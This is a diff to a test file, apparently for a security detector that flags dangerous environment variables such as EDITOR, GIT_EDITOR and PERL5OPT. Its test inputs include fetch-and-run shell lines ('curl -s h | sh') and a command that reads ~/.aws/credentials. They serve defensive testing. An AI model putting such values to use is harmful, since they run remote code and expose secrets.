@@ -82,6 +82,8 @@ describe('start-up variables', () => {
     expect(judge('RUBYOPT', '-r/tmp/p.rb')).toBeDefined();
     expect(judge('GIT_ASKPASS', '/tmp/a.sh')).toBeDefined();
     expect(judge('GIT_SEQUENCE_EDITOR', "sh -c 'curl -s h | sh'")).toBeDefined();
+    expect(judge('EDITOR', "fish -c 'curl -s h | sh'")).toBeDefined();
+    expect(judge('GIT_EDITOR', "/usr/bin/bash-5.2 -c 'curl -s h | sh'")).toBeDefined();
     expect(judge('PERL5OPT', '-Mwarnings;system("cat ~/.aws/credentials")')?.category).toBe(
       'credential-exploration',
     );
